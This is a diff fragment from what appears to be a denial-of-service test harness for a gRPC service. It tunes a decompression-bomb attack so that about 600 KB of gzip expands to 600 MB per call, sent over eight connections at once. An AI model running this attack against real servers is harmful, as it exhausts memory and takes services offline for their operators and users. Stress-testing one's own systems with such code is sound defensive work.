@@ -174,12 +174,12 @@ def uploads_of_one_byte_at_a_time(node):
 
 @attack(memory=True)
 def compressed_messages_that_unfold(node):
-    """Calls whose 1.8 MB of gzip unfold to 400 MB each, on eight connections at a time"""
-    message = http2.grpc_message(gzip.compress(bytes(400 << 20), 1), compressed=True)
+    """Calls whose 600 KB of gzip unfold to 600 MB each, on eight connections at a time"""
+    message = http2.grpc_message(gzip.compress(bytes(600 << 20), 9), compressed=True)
 
     def send(connection):
         end, stream = time.monotonic() + HOLD_SECONDS, 1
-        connection.socket.settimeout(1)
+        connection.socket.settimeout(5)
         while time.monotonic() < end:
             connection.send(http2.call(stream, "PlanLoad", **{"grpc-encoding": "gzip"}))
             if not connection.send_message(stream, message):
